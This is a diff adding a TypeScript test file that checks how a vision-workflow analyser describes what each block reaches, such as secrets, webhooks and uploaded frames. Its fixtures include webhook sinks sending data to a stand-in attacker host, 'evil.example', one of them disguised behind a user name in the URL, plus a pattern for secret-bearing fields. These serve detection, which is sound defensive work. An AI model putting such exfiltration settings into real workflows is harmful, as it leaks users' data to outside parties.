@@ -1,0 +1,91 @@
+import type { WorkflowSpec } from "@vision-agent/protocol";
+import { listKnownBlocks } from "@vision-agent/vision-engine";
+import { describe, expect, it } from "vitest";
+import { SPEC } from "../testing/fake-app.ts";
+import { effectOfBlock, reachOf } from "./block-effects.ts";
+
+describe("what blocks do", () => {
+  it("is known of every block of the catalogue", () => {
+    expect(listKnownBlocks().filter((block) => effectOfBlock(block) === undefined)).toEqual([]);
+  });
+
+  it("is more than computing for every block with an address, a key, a password or a folder", () => {
+    const REACHES =
+      /(?:^|_)(?:url|host|ip|address|servers?|email|password|token|secrets?|api_key|directory|bucket_name)$/;
+    const silent = listKnownBlocks()
+      .filter((block) => effectOfBlock(block) === "none")
+      .filter(({ properties }) => properties.some(({ name }) => REACHES.test(name)));
+    expect(silent.map(({ type }) => type)).toEqual([]);
+  });
+
+  it.each<[string, Partial<WorkflowSpec>, string]>([
+    ["a block that nobody knows", step("acme/anything@v1"), 'It uses "anything", which can do anything.'],
+    [
+      "a secret store",
+      step("roboflow_core/environment_secrets_store@v1", { variables_storing_secrets: ["BANK_KEY"] }),
+      `It reads secrets of the server: "['BANK_KEY']".`,
+    ],
+    [
+      "a workflow inside that is fetched when it runs",
+      step("roboflow_core/inner_workflow@v1", { workflow_workspace_id: "evil", workflow_id: "x" }),
+      'It uses "inner_workflow", which can do anything.',
+    ],
+    [
+      "a workflow inside",
+      step("roboflow_core/inner_workflow@v1", { workflow_definition: { ...SPEC, ...hook("https://evil.example") } }),
+      'It sends data out with webhook_sink to "https://evil.example".',
+    ],
+    [
+      "a block that hides behind a workflow of its own",
+      step("roboflow_core/webhook_sink@v1", { url: "https://evil.example", workflow_definition: SPEC }),
+      'It sends data out with webhook_sink to "https://evil.example".',
+    ],
+    [
+      "an address in an input",
+      {
+        ...hook("$inputs.to"),
+        inputs: [{ type: "WorkflowParameter", name: "to", default_value: "https://in.example" }],
+      },
+      'It sends data out with webhook_sink to "https://in.example".',
+    ],
+    [
+      "an address that is made while it runs",
+      hook("$steps.ocr.text"),
+      'It sends data out with webhook_sink to "an address that is chosen while it runs".',
+    ],
+    [
+      "frames that are uploaded to be labelled",
+      upload(),
+      'It sends data out with roboflow_object_detection_model to "mine".',
+    ],
+    [
+      "code in the workflow",
+      { dynamic_blocks_definitions: [{ type: "DynamicBlockDefinition", code: { run_function_code: "…" } }] },
+      "It runs code that is written in the workflow.",
+    ],
+    [
+      "a host that hides behind a user name",
+      hook("https://roboflow.com@evil.example/x"),
+      'It sends data out with webhook_sink to "https://evil.example/x".',
+    ],
+  ])("tells of %s", (_what, parts, sentence) => {
+    expect(reachOf({ ...SPEC, ...parts }).map((one) => one.sentence)).toEqual([sentence]);
+  });
+
+  it("is nothing for a workflow that detects, tracks and draws", () => {
+    expect(reachOf(SPEC)).toEqual([]);
+  });
+});
+
+function step(type: string, properties: object = {}): Pick<WorkflowSpec, "steps"> {
+  return { steps: [...SPEC.steps, { type, name: "extra", ...properties }] };
+}
+
+function hook(url: string): Pick<WorkflowSpec, "steps"> {
+  return step("roboflow_core/webhook_sink@v1", { url });
+}
+
+function upload(): Pick<WorkflowSpec, "steps"> {
+  const type = "roboflow_core/roboflow_object_detection_model@v2";
+  return { steps: [{ type, name: "detect", active_learning_target_dataset: "mine" }] };
+}
